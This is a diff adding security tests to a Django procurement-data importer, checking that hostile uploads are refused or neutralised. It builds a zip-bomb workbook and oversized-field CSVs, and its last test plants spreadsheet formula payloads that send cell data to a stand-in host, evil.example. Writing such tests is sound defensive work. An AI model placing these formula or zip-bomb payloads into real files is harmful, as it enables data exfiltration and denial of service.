@@ -293,3 +293,85 @@ def test_an_upload_is_imported_by_a_real_worker_with_progress_over_the_socket(
     wait_for(lambda: stored_uploads(upload_root) == [], what="the upload to be deleted")
     page = client.get(f"/jobs/{job_id}/").content.decode()
     assert 'data-count="awards_new">144<' in page
+
+
+# --- Hostile files (issue 8, item 12) -------------------------------------------------
+
+
+def zip_bomb(tmp_path: Path) -> bytes:
+    """A real PhilGEPS workbook carrying one part that inflates 11 MB from a few KB."""
+    path = write_xlsx(tmp_path / "bomb.xlsx", S1_HEADER, [s1_row()])
+    with zipfile.ZipFile(path, "a", compression=zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("xl/media/image1.png", b"\0" * (11 * 1024 * 1024))
+    return path.read_bytes()
+
+
+def csv_with_a_huge_field(at_row: int) -> bytes:
+    header, rows = v2_rows()
+    rows = [list(row) for row in rows[:30]]
+    rows[at_row - 1][header.index("Award Title")] = "x" * 200_000  # twice the field limit
+    text = io.StringIO()
+    csv.writer(text).writerows([header, *rows])
+    return text.getvalue().encode()
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize(
+    ("name", "content", "reason"),
+    [
+        ("bomb.xlsx", zip_bomb, "refused as a possible zip bomb"),
+        ("huge.csv", lambda _: csv_with_a_huge_field(at_row=2), "cannot be read as CSV (field larger than"),
+        ("one-line.csv", lambda _: b"x," * (2 * 1024 * 1024), "hold no line break"),
+    ],
+    ids=["zip-bomb", "huge-field", "huge-line"],
+)
+def test_hostile_files_are_refused_at_upload_and_change_nothing(
+    staff_client, upload_root, tmp_path, name, content, reason
+):
+    response = upload(staff_client, name, content(tmp_path), **HTMX)
+
+    assert response.status_code == 400
+    assert reason in response.content.decode()
+    assert not Job.objects.exists()
+    assert not ImportRun.objects.exists()
+    assert stored_uploads(upload_root) == []
+
+
+@pytest.mark.django_db(transaction=True)
+def test_a_huge_field_past_the_quick_check_fails_the_import_before_anything_is_written(staff, upload_root):
+    name = store(upload_root, csv_with_a_huge_field(at_row=25))
+    job, _ = services.submit_job(user=staff, kind="import", params={"upload": name, "name": "huge.csv"})
+
+    job = run_inline(job)
+
+    assert job.state == State.FAILED
+    assert "Line 26 cannot be read as CSV (field larger than field limit" in job.error
+    assert not Award.objects.exists()
+    assert stored_uploads(upload_root) == []
+
+
+@pytest.mark.django_db(transaction=True)
+def test_formulas_and_external_links_in_a_workbook_are_never_evaluated_or_stored(
+    staff_client, upload_root, tmp_path
+):
+    evil = {
+        "Notice Title": '=HYPERLINK("http://evil.example/steal?"&A1,"Click")',
+        "Awardee Corporate Title": "='http://evil.example/[book.xlsx]Sheet1'!A1",
+        "Award Title": '=WEBSERVICE("http://evil.example/ping")',
+    }
+    rows = [s1_row(), s1_row(**{"Reference ID": 2145679}, **evil)]
+    path = write_xlsx(tmp_path / "formulas.xlsx", S1_HEADER, rows)
+    response = upload(staff_client, "formulas.xlsx", path.read_bytes(), **HTMX)
+    assert response.status_code == 201
+
+    job = run_inline(Job.objects.get())
+
+    assert job.state == State.SUCCEEDED, job.error
+    # Cells are read as their cached values (none here), never as formulas to run.
+    stored = [
+        *Award.objects.values_list("title", flat=True),
+        *Award.objects.values_list("supplier__name", flat=True),
+        *Award.objects.values_list("notice__title", flat=True),
+    ]
+    assert stored
+    assert not [text for text in stored if text and ("=" in text[:1] or "evil.example" in text)]
